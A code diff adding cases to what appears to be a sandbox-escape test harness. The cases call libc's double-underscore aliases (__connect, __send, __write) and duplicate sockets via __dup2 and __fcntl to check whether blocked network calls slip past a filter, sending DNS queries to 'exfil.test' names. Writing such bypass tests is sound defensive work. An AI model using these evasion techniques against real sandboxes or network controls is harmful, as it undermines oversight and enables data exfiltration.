@@ -84,10 +84,10 @@ def sendto(case: str, s: socket.socket, addr: bytes, length: int | None = None) 
     report(case, rc)
 
 
-def connect(case: str, s: socket.socket, addr: bytes) -> None:
+def connect(case: str, s: socket.socket, addr: bytes, name: str = "connect") -> None:
     a = cbuf(addr)
     ctypes.set_errno(0)
-    report(case, libc.connect(s.fileno(), a, len(addr)))
+    report(case, libc[name](s.fileno(), a, len(addr)))
 
 
 def sendmsg(case: str, s: socket.socket, name: bytes | None, namelen: int, data: bytes) -> None:
@@ -161,6 +161,23 @@ def main() -> None:
     ctypes.set_errno(0)
     unspec53 = cbuf(sin(denied, 53, family=socket.AF_UNSPEC))
     report("unspec-v6-dns", libc.sendto(d6.fileno(), q, len(q), 0, unspec53, 16))
+    # libc's public double-underscore names of the same functions, looked up in the program's own scope
+    connect("alias-__connect", socket.socket(socket.AF_INET, socket.SOCK_STREAM), sin(denied, echo), "__connect")
+    a4 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    a4.connect((ns, 53))
+    for case, fn in [("alias-__send", "__send"), ("alias-__write", "__write")]:
+        q = dns_query(f"{case[6:].strip('_')}.exfil.test")
+        ctypes.set_errno(0)
+        rc = libc[fn](a4.fileno(), q, len(q), 0) if fn == "__send" else libc[fn](a4.fileno(), q, len(q))
+        report(case, rc)
+    q = dns_query("dup2.exfil.test")
+    libc.__dup2(a4.fileno(), 400)
+    ctypes.set_errno(0)
+    report("alias-__dup2", libc.write(400, q, len(q)))
+    ctypes.set_errno(0)
+    copy = libc.__fcntl(a4.fileno(), 0, 500)  # F_DUPFD
+    q = dns_query("fcntl.exfil.test")
+    report("alias-__fcntl", libc.write(copy, q, len(q)) if copy >= 0 else copy)
     sentinel(tag, allowed, sink)
 
 
